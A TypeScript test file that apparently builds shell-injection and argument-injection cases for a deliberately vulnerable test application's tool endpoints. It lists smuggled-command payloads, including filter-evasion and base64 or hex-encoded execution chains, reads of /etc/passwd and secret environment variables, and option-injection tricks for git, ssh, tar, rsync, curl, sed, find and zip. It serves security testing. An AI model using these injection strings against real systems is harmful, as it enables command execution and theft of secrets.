// Programs of the shop: through a shell, through an interpreter, and by their options.
import type { RangeCase, RangePlaces } from '../case.ts';
import { get, shelf } from './shop.ts';

export function shopToolCases(places: RangePlaces): RangeCase[] {
  const shell = shelf('shell-injection', places);
  const argv = shelf('argv-injection', places);
  const making = (
    on: typeof shell,
    name: string,
    path: string,
    make: (file: string) => Record<string, string | string[]>,
  ): void => {
    const file = `${places.outside}/${places.token()}`;
    on.attack(name, get(path, make(file)), { kind: 'file', path: file });
  };
  const parts: readonly ((file: string) => string)[] = [
    (file) => `x; touch ${file}`,
    (file) => `x && touch ${file}`,
    (file) => `x | tee ${file}`,
    (file) => `x || touch ${file}; touch ${file}`,
    (file) => `x & touch ${file}`,
    (file) => `x\ntouch ${file}`,
    (file) => `x\r\ntouch ${file}`,
    (file) => `$(touch ${file})`,
    (file) => `\`touch ${file}\``,
    (file) => `x;touch\${IFS}${file}`,
    (file) => `x;{touch,${file}}`,
    (file) => `x > ${file}`,
    (file) => `x;/???/b??/touch ${file}`,
    (file) => `x;t\\ouch ${file}`,
    (file) => `x;'to''uch' ${file}`,
    (file) => `x;$'\\x74ouch' ${file}`,
    (file) => `x;X=ouch;t$X ${file}`,
    (file) => `x;touch$IFS$9${file}`,
    (file) => `x;touch<&-	${file}`,
    (file) => `x;bash -c 'touch ${file}'`,
    (file) => `x;node -e "require('fs').writeFileSync('${file}','')"`,
    (file) => `x;echo ${Buffer.from(`touch ${file}`).toString('hex')}|xxd -r -p|sh`,
    (file) => `x;eval $(echo ${Buffer.from(`touch ${file}`).toString('base64')}|base64 -d)`,
    (file) => `x;for i in 1;do touch ${file};done`,
    (file) => `x;if true;then touch ${file};fi`,
    (file) => `x;cp /dev/null ${file}`,
    (file) => `<(touch ${file})`,
  ];
  for (const [path, field, before, after] of [
    ['/tools/ping', 'host', '', ''],
    ['/tools/count', 'word', 'x /dev/null', ' #'],
    ['/tools/archive', 'name', '', ' #'],
    ['/tools/shell', 'name', '', ''],
    ['/tools/bash', 'name', '', ''],
    ['/tools/env', 'name', '', ''],
    ['/tools/sh-positional', 'name', '', ''],
    ['/tools/stdin', 'name', '', ''],
    ['/tools/stdin-bash', 'name', '', ''],
    ['/tools/stdin-later', 'name', '', ''],
  ] as const)
    for (const part of parts)
      making(shell, part('FILE').replaceAll('\n', '\\n'), path, (file) => ({
        [field]: `${before}${part(file)}${after}`,
      }));
  making(shell, 'double quotes', '/tools/lookup', (file) => ({ host: `x"; touch ${file}; "` }));
  making(shell, 'double quotes, substitution', '/tools/lookup', (file) => ({ host: `$(touch ${file})` }));
  making(shell, 'single quotes', '/tools/thumb', (file) => ({ file: `a.png'; touch ${file}; '`, size: '10' }));
  making(shell, 'the other field', '/tools/thumb', (file) => ({ file: 'a.png', size: `10; touch ${file} #` }));
  making(shell, 'double quotes', '/tools/sh', (file) => ({ name: `"; touch ${file}; echo "` }));
  making(shell, 'backtick', '/tools/sh', (file) => ({ name: `\`touch ${file}\`` }));
  making(shell, 'heredoc', '/tools/heredoc', (file) => ({ name: `$(touch ${file})` }));
  making(shell, 'heredoc ends', '/tools/heredoc', (file) => ({ name: `x\nEND\ntouch ${file}\ncat <<END` }));
  making(shell, 'xargs', '/tools/xargs', (file) => ({ name: `x; touch ${file}` }));
  making(shell, 'backtick', '/tools/backtick', (file) => ({ name: `x\`; touch ${file}; echo \`x` }));
  making(shell, 'inside backticks', '/tools/backtick', (file) => ({ name: `x; touch ${file}` }));
  making(shell, 'filtered', '/tools/filtered', (file) => ({ name: `$(touch ${file})` }));
  making(shell, 'filtered, line end', '/tools/filtered', (file) => ({ name: `x\ntouch ${file}` }));
  making(shell, 'filtered, blanks', '/tools/filtered-space', (file) => ({ name: `x;touch\${IFS}${file}` }));
  shell.attack('reads a file', get('/tools/ping', { host: 'x; cat /etc/passwd' }), { kind: 'answer', holds: 'root:' });
  shell.attack('reads the environment', get('/tools/ping', { host: '$RANGE_SECRET' }));
  shell.attack('reads the environment', get('/tools/lookup', { host: 'x" || echo "${RANGE_SECRET}' }));
  shell.attack('printenv', get('/tools/archive', { name: 'x; printenv RANGE_SECRET #' }));

  making(argv, 'the program', '/tools/run', (file) => ({ command: 'touch', args: [file] }));
  making(argv, 'a line', '/tools/line', (file) => ({ line: `touch ${file}` }));
  making(argv, 'a line of env', '/tools/line', (file) => ({ line: `/usr/bin/env touch ${file}` }));
  for (const line of ['whoami', 'uptime --version', 'df --version', 'df -h', 'rm -rf /'])
    argv.benign(line, get('/tools/safe/line', { line }));
  making(argv, 'a shell', '/tools/run', (file) => ({ command: '/bin/sh', args: ['-c', `touch ${file}`] }));
  making(argv, 'a shell by env', '/tools/run', (file) => ({
    command: '/usr/bin/env',
    args: ['bash', '-c', `touch ${file}`],
  }));
  making(argv, 'node', '/tools/run', (file) => ({
    command: 'node',
    args: ['-e', `require('fs').writeFileSync('${file}','')`],
  }));
  making(argv, 'git clone, ext', '/tools/clone', (file) => ({ url: `ext::sh -c touch% ${file}` }));
  making(argv, 'git ls-remote, upload-pack', '/tools/remote', (file) => ({ url: `--upload-pack=touch ${file};` }));

  making(argv, 'git log', '/tools/log', (file) => ({ ref: `--output=${file}` }));
  argv.attack('curl, file', get('/tools/curl', { url: 'file:///etc/passwd' }), { kind: 'answer', holds: 'root:' });
  argv.attack('curl, file, local host', get('/tools/curl', { url: 'file://localhost/etc/passwd' }), {
    kind: 'answer',
    holds: 'root:',
  });
  argv.attack('curl, config', get('/tools/curl', { url: `-K${places.outside}/curlrc` }), {
    kind: 'answer',
    holds: 'root:',
  });
  making(argv, 'curl, output', '/tools/curl-more', (file) => ({ url: places.backend, extra: ['-o', file] }));
  making(argv, 'curl, output', '/tools/curl-more', (file) => ({ url: places.backend, extra: ['--output', file] }));
  making(argv, 'curl, headers', '/tools/curl-more', (file) => ({ url: places.backend, extra: ['-D', file] }));
  making(argv, 'curl, trace', '/tools/curl-more', (file) => ({ url: places.backend, extra: ['--trace', file] }));
  making(argv, 'curl, cookies', '/tools/curl-more', (file) => ({ url: places.backend, extra: ['-c', file] }));

  making(argv, 'find -exec', '/tools/find', (file) => ({ name: `-exec touch ${file} ;` }));
  making(argv, 'find -fprint', '/tools/find', (file) => ({ name: `-fprint ${file}` }));
  making(argv, 'find -ok', '/tools/find', (file) => ({ name: `-execdir /usr/bin/touch ${file} ;` }));
  making(argv, 'tar', '/tools/tar', (file) => ({
    files: ['--checkpoint=1', `--checkpoint-action=exec=touch ${file}`, 'a.txt'],
  }));
  making(argv, 'tar', '/tools/tar', (file) => ({ files: ['a.txt', `--use-compress-program=touch ${file};`] }));

  making(argv, 'zip', '/tools/zip', (file) => ({ files: ['a.txt', '-T', '-TT', `touch ${file}; true`] }));
  making(argv, 'zip, long', '/tools/zip', (file) => ({
    files: ['a.txt', '-T', `--unzip-command=touch ${file}; true`],
  }));
  making(argv, 'ssh', '/tools/ssh', (file) => ({ host: `-oProxyCommand=touch ${file}` }));
  making(argv, 'rsync', '/tools/rsync', (file) => ({ from: ['-e', `sh -c 'touch ${file}'`, 'x:y'] }));
  making(argv, 'rsync', '/tools/rsync', (file) => ({ from: [`--rsh=sh -c 'touch ${file}'`, 'x:y'] }));
  making(argv, 'sed e', '/tools/sed', (file) => ({ expression: `1e touch ${file}` }));
  making(argv, 'sed s///e', '/tools/sed', (file) => ({ expression: `s/.*/touch ${file.replaceAll('/', '\\/')}/e` }));
  making(argv, 'sed w', '/tools/sed', (file) => ({ expression: `w ${file}` }));
  making(argv, 'awk', '/tools/awk', (file) => ({ program: `BEGIN { system("touch ${file}") }` }));
  making(argv, 'awk, print', '/tools/awk', (file) => ({ program: `{ print > "${file}" }` }));
  making(argv, 'openssl', '/tools/openssl', (file) => ({ algorithm: `out=${file}`.replace('=', '=') }));
  making(argv, 'sqlite3 .shell', '/tools/sqlite', (file) => ({ query: `.shell touch ${file}` }));
  making(argv, 'sqlite3 .output', '/tools/sqlite', (file) => ({ query: `.output ${file}` }));

  making(argv, 'an alias of git', '/tools/alias', (file) => ({ alias: `!touch ${file};` }));
  making(argv, 'node -p', '/tools/node', (file) => ({ text: `'+require('fs').writeFileSync('${file}','')+'` }));
  making(argv, 'python -c', '/tools/python', (file) => ({ text: `'+str(open('${file}','w'))+'` }));
  making(argv, 'python -', '/tools/python-stdin', (file) => ({ text: `'+str(open('${file}','w'))+'` }));
  argv.attack('fork', get('/tools/fork', { script: '../../../outside/evil.js' }), { kind: 'answer', holds: 'exit 7' });

  const words = [
    "O'Brien",
    'a; b',
    'x && y',
    '$(id)',
    '`id`',
    '| sort',
    '> out',
    'hello world',
    '$HOME',
    '-rf',
    '--output=x',
    'echo',
    'printf',
    'sh',
    'wc',
    '日本 🎉',
    'a\nb',
    '100%',
    '"quoted"',
    '\\',
    '#1',
    '*',
    '~',
    '!',
    'convert',
    'hello',
  ];
  for (const name of words) {
    shell.benign(
      name,
      get('/tools/safe/echo', { name }),
      get('/tools/safe/quoted', { name }),
      get('/tools/safe/doubled', { name }),
    );
    shell.benign(
      name,
      get('/tools/safe/positional', { name }),
      get('/tools/safe/environment', { name }),
      get('/tools/safe/stdin', { text: name }),
      get('/tools/safe/script', { text: name }),
    );
    shell.benign(name, get('/tools/safe/constant', { name }), get('/tools/safe/ping', { host: name }));
    argv.benign(
      name,
      get('/tools/safe/thumb', { file: name }),
      get('/tools/safe/grep', { word: name }),
      get('/tools/safe/log', { file: name }),
    );
  }
  for (const name of [
    'example.com',
    'a-b.c',
    '10.0.0.1',
    'bob',
    'x_y',
    'report-2024',
    'a@b.c',
    'v1.2',
    'C++',
    '50%',
    'echo',
    'hello',
  ])
    shell.benign(
      name,
      get('/tools/ping', { host: name }),
      get('/tools/shell', { name }),
      get('/tools/bash', { name }),
      get('/tools/archive', { name }),
      get('/tools/sh', { name }),
      get('/tools/stdin', { name }),
      get('/tools/stdin-later', { name }),
      get('/tools/env', { name }),
      get('/tools/thumb', { file: `${name}.png`, size: '10x20' }),
    );
  for (const task of ['disk usage', 'date', 'who', 'uptime', 'rm -rf /', 'whoami'])
    argv.benign(task, get('/tools/safe/admin', { task }));
  for (const tool of ['ls', 'uptime', 'whoami', 'id', 'ls; id']) argv.benign(tool, get('/tools/safe/pick', { tool }));
  for (const ref of ['HEAD', 'main', 'nowhere', 'v1.0']) argv.benign(ref, get('/tools/log', { ref }));
  for (const word of ['alpha', 'the end', 'a.*']) argv.benign(word, get('/tools/grep', { word }));
  for (const files of [['a.txt'], ['a.txt', 'sub'], ['with space.txt'], ['a..txt', 'sub/b.txt']])
    argv.benign(files.join(' '), get('/tools/tar', { files }), get('/tools/zip', { files }));
  for (const algorithm of ['sha256', 'md5', 'sha1']) argv.benign(algorithm, get('/tools/openssl', { algorithm }));
  for (const query of ['SELECT 1', "SELECT 'a;b'"]) argv.benign(query, get('/tools/sqlite', { query }));
  for (const name of ['-name a.txt', '-type d', '-size +1k']) argv.benign(name, get('/tools/find', { name }));
  for (const text of ['bob', 'it is; nice', '(x)', 'a b c', 'import os', 'process'])
    argv.benign(text, get('/tools/node', { text }), get('/tools/python', { text }));
  for (const expression of ['s/alpha/omega/', '1p', 's/a/b/g'])
    argv.benign(expression, get('/tools/sed', { expression }));
  argv.benign(
    'a script of ours',
    get('/tools/fork', { script: 'worker.js' }),
    get('/tools/curl', { url: `${places.backend}/items/1` }),
  );
  return [...shell.cases, ...argv.cases];
}
